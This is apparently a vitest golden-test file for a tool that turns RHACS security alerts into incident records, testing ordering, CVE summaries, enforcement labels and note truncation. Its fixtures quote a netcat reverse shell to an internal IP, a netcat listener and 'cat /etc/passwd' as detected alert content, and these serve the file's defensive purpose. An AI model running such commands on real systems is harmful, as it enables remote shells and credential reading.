// Golden tests for each shape of alert the analyst reads: the newest activity (by time, not by
// position), how bad across every violation, blocked and stage at a glance, and sequences that keep
// every fact. The exec-into-pod contract has its own file (golden-exec-into-pod.test.ts).
import { beforeEach, describe, expect, it } from 'vitest'
import { fakeInstance } from '../tools/glide-fake/index'
import { deliver, incidents, resetInstance } from '../tools/local-instance'
import { fixtureBody } from './support/scenario-engine'

beforeEach(() => resetInstance())

function only(fixture: string) {
    deliver(fixtureBody(fixture))
    return incidents()[0]
}

describe('the newest activity, by time', () => {
    it('netcat re-sent with a reverse shell: the newest process gives the command and time; distinct processes listed newest first', () => {
        const inc = only('04b-runtime-process-netcat-reverse-shell.json')
        expect(inc.description).toContain('Command: /usr/bin/nc 10.128.4.17 4444 -e /bin/sh\n')
        expect(inc.description).toContain('Event time: 2026-02-12T16:04:55.118206Z\n')
        expect(inc.description).toContain(
            [
                'Processes (2 distinct, newest first):',
                '- 2026-02-12T16:04:55.118206Z UID 1000680000 /usr/bin/nc 10.128.4.17 4444 -e /bin/sh (pod payments-api-7d9f8b6c5d-x2k4q, container app)',
                '- 2026-02-12T16:02:11.734902Z UID 1000680000 /usr/bin/nc -lvnp 4444 (pod payments-api-7d9f8b6c5d-x2k4q, container app)',
            ].join('\n'),
        )
    })

    it('an exec alert whose violations arrive oldest first still shows the newest exec', () => {
        const body = JSON.parse(fixtureBody('01b-exec-into-pod-update-same-id.json'))
        body.alert.violations.reverse()
        deliver(JSON.stringify(body))
        expect(incidents()[0].description).toContain('Command: cat /etc/passwd\n')
    })

    it('network flows: each flow, newest first, with its time', () => {
        const inc = only('06-network-flow-baseline.json')
        expect(inc.description.endsWith(
            [
                'Network flows (2, newest first):',
                '- 2026-02-12T16:06:02.550Z payments/payments-api -> External Entities:4444 (TCP)',
                '- 2026-02-12T16:05:31Z payments/payments-api -> db/postgres-primary:5432 (TCP)',
            ].join('\n'),
        )).toBe(true)
    })
})

describe('how bad, across every violation', () => {
    it('the 1 MB CVE alert counts Critical and Important CVEs, names the images and the worst five', () => {
        const inc = only('09-large-5000-violations.json')
        expect(inc.description.length).toBeLessThanOrEqual(4000)
        expect(inc.description).toContain(
            'Images: quay.io/acme/payments-api:latest (container app), docker.io/envoyproxy/envoy:latest (container envoy-sidecar), registry.access.redhat.com/ubi9/ubi-minimal:latest (container log-shipper)',
        )
        expect(inc.description).toContain(
            [
                'CVEs: 1,250 Critical, 3,750 Important; 5,000 fixable',
                'Worst CVEs (by CVSS):',
                '- CVE-2019-10021 (CVSS 9.8, Critical) in glibc 2.34-83.el9_3.7, container app, fixed in 0:2.34-100.el9_4.2',
                '- CVE-2019-10049 (CVSS 9.8, Critical) in kernel-headers 5.14.0-362.8.1.el9_3, container envoy-sidecar, fixed in 0:5.14.0-427.13.1.el9_4',
                '- CVE-2019-10077 (CVSS 9.8, Critical) in golang.org/x/net v0.17.0, container log-shipper, fixed in 0.33.0',
                '- CVE-2019-10105 (CVSS 9.8, Critical) in openssl-libs 1:3.0.7-24.el9, container app, fixed in 1:3.0.7-27.el9',
                '- CVE-2019-10133 (CVSS 9.8, Critical) in libxml2 2.9.13-5.el9_3, container envoy-sidecar, fixed in 0:2.9.13-6.el9_5.2',
                '- … and 4,995 more CVEs',
            ].join('\n'),
        )
    })

    it('the 15-CVE alert summarises its mix, worst first; ties by severity then id', () => {
        const inc = only('05-cve-deploy-fixable-important.json')
        expect(inc.description).toContain('CVEs: 4 Critical, 11 Important; 15 fixable\nWorst CVEs (by CVSS):\n- CVE-2023-38545 (CVSS 9.8, Critical)')
        expect(inc.description).toContain('- CVE-2024-24790 (CVSS 9.8, Critical) in stdlib 1.21.7, container app, fixed in 1.21.11\n- CVE-2024-45337 (CVSS 9.1, Critical)')
        expect(inc.description).toContain('Image')
    })
})

describe('blocked and stage at a glance', () => {
    it('a blocked exec says so in the short description and the description', () => {
        const inc = only('07-exec-blocked.json')
        expect(inc.short_description).toBe('ACS policy violation (blocked): Kubernetes Actions: Exec into Pod (HIGH_SEVERITY)')
        expect(inc.description).toContain('Blocked: yes, RHACS enforcement stopped this request (state ATTEMPTED)\n')
        expect(inc.description).toContain("Enforcement: FAIL_KUBE_REQUEST_ENFORCEMENT: Kubernetes request denied: exec into pod 'garbage' blocked by RHACS policy 'Kubernetes Actions: Exec into Pod'")
    })

    it('an alert that was not blocked keeps the contract title', () => {
        expect(only('01-exec-into-pod.json').short_description).toBe('ACS policy violation: Kubernetes Actions: Exec into Pod (HIGH_SEVERITY)')
    })

    it('a build-time image check: stage Build, the image, the CI extra field, no cluster placeholder', () => {
        const inc = only('08-build-image-check.json')
        const where = inc.description.split('\n\n')[1]
        expect(where).toBe(
            [
                'Stage: Build (an image checked before deployment, e.g. by roxctl image check in a CI pipeline)',
                'Image: quay.io/acme/payments-api:2.4.0-rc1',
                'Event time: 2026-02-12T09:12:40.006518345Z',
                'Notifier fields: pipeline=payments-api/build#1842',
            ].join('\n'),
        )
    })

    it('a deploy-time alert: stage Deploy and First seen when it differs from the last evaluation', () => {
        const inc = only('05-cve-deploy-fixable-important.json')
        expect(inc.description).toContain("Stage: Deploy (the workload's configuration or images violate the policy)\n")
        expect(inc.description).toContain('Event time: 2026-02-12T03:17:44.905311870Z\nFirst seen: 2026-02-09T11:52:06.227715392Z\n')
    })
})

describe('sequences keep every fact', () => {
    it('01 → 01b → 01d: the deletion is an update with a note that says so', () => {
        const outcomes = ['01-exec-into-pod.json', '01b-exec-into-pod-update-same-id.json', '01d-exec-into-pod-deployment-deleted.json'].map((f) => deliver(fixtureBody(f)).body.outcome)
        expect(outcomes).toEqual(['created', 'updated', 'updated'])
        const notes = incidents()[0].work_notes
        expect(notes[1]).toBe(
            'RHACS re-sent alert c2a7f5e1-9b3d-4f6a-8e2c-7d1b5a9f3e04 with what changed:\nThe deployment was deleted (RHACS marks it inactive).\nOccurrences: 3; last seen 2026-02-12 15:30:00 UTC.',
        )
        // Replayed once more, it changes nothing.
        expect(deliver(fixtureBody('01d-exec-into-pod-deployment-deleted.json')).body.outcome).toBe('duplicate')
    })

    it('enforcement newly applied to an alert is an update with a note', () => {
        deliver(fixtureBody('01-exec-into-pod.json'))
        const body = JSON.parse(fixtureBody('01-exec-into-pod.json'))
        body.alert.state = 'ATTEMPTED'
        body.alert.enforcement = { action: 'FAIL_KUBE_REQUEST_ENFORCEMENT', message: 'denied' }
        expect(deliver(JSON.stringify(body)).body.outcome).toBe('updated')
        expect(incidents()[0].work_notes[0]).toContain('RHACS enforcement blocked this request: FAIL_KUBE_REQUEST_ENFORCEMENT: denied.')
    })

    it('05 → 09: the note keeps its header, its count of what was cut and its footer, within 4,000', () => {
        deliver(fixtureBody('05-cve-deploy-fixable-important.json'))
        expect(deliver(fixtureBody('09-large-5000-violations.json')).body.outcome).toBe('updated')
        const [note] = incidents()[0].work_notes
        expect(note.length).toBeLessThanOrEqual(4000)
        expect(note).toMatch(/^New RHACS alert d8b2f5a9-7e3c-4b1d-8f6a-2c9e4b7d1f50 \(CVEs: 1,250 Critical, 3,750 Important; 5,000 fixable\) for the same problem, 40 violations not noted before:\n- Fixable CVE-/)
        expect(note).toMatch(/\n- … and \d+ more lines not shown \(field limit\)\nOccurrences: 2; last seen 2026-02-12 15:30:00 UTC\.$/)
    })
})

describe('enforcement, closed Incidents and one over-long line', () => {
    it('an enforcement that acted on what already ran says (enforced), not (blocked)', () => {
        const body = JSON.parse(fixtureBody('01-exec-into-pod.json'))
        body.alert.enforcement = { action: 'KILL_POD_ENFORCEMENT', message: 'Deleted pod gibson-deployment-1' }
        deliver(JSON.stringify(body))
        expect(incidents()[0].short_description).toBe('ACS policy violation (enforced): Kubernetes Actions: Exec into Pod (HIGH_SEVERITY)')
        resetInstance()
        body.alert.enforcement = { action: 'FAIL_KUBE_REQUEST_ENFORCEMENT', message: 'Request denied' }
        deliver(JSON.stringify(body))
        expect(incidents()[0].short_description).toBe('ACS policy violation (blocked): Kubernetes Actions: Exec into Pod (HIGH_SEVERITY)')
    })

    it('a re-send whose only news is that the deployment was deleted notes it on the closed Incident, which stays closed', () => {
        deliver(fixtureBody('01-exec-into-pod.json'))
        deliver(fixtureBody('01b-exec-into-pod-update-same-id.json'))
        const row = fakeInstance.rows('incident')[0]
        fakeInstance.update('incident', row.sys_id, { state: '7' }, [])
        const answer = deliver(fixtureBody('01d-exec-into-pod-deployment-deleted.json'))
        expect(answer.body.outcome).toBe('updated')
        expect(incidents()).toHaveLength(1)
        expect(incidents()[0].state).toBe(7)
        expect(incidents()[0].work_notes.at(-1)).toContain('The deployment was deleted (RHACS marks it inactive).')
    })

    it('a single violation longer than the field keeps its head, not nothing', () => {
        const body = JSON.parse(fixtureBody('03-deploy-latest-tag.json'))
        body.alert.violations = [{ message: 'x'.repeat(3900) + ' END' }]
        deliver(JSON.stringify(body))
        const description = incidents()[0].description
        expect(description.length).toBeLessThanOrEqual(4000)
        expect(description).toMatch(/Violation:\nx{40,}/)
        expect(description).not.toContain('more lines not shown')
    })
})
